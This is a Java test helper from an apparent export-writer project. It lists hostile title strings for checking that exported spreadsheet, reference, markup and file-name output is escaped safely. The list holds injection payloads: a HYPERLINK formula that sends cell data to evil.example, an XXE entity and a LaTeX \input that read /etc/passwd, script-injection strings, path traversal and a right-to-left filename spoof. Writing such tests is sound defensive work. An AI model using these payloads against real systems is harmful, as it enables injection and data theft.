package zhai.exchange.writer;

import java.util.List;
import java.util.stream.Stream;

/// Titles that somebody wrote to break the file that they come to stand in.
final class HostileTexts {
  private HostileTexts() {}

  static List<String> all() {
    return Stream.of(
            MarkdownListTest.hostile(),
            List.of(
                // spreadsheets
                "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
                "+1+1",
                "-2+3",
                "@SUM(1)",
                "\t=1",
                "\r=1",
                "＝1+1",
                "＋1",
                "－1",
                "＠x",
                "'=1",
                "''=1",
                "a\",\"b",
                "a\r\n=1",
                // references
                "T\r\nER  - \r\nTY  - BOOK",
                "x}\n}\n@book{evil, title={y",
                "{",
                "}",
                "\\input{/etc/passwd}",
                "100% of #1 & $5 ~ a_b^c \\ end",
                "@comment{",
                // markup
                "]]>",
                "<![CDATA[",
                "&#0;&#xFFFE;&lol;",
                "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
                "</content></entry>",
                "--><script>alert(1)</script>",
                "</H3><DL><A HREF=\"javascript:alert(1)\">x</A>",
                // templates and names of files
                "{{title}}{{> x}}",
                "../../etc/passwd",
                "CON",
                "a\u0000b\uD800\uFFFE\u001B[2J",
                "\u202Egpj.exe",
                "长".repeat(400)))
        .flatMap(List::stream)
        .toList();
  }
}
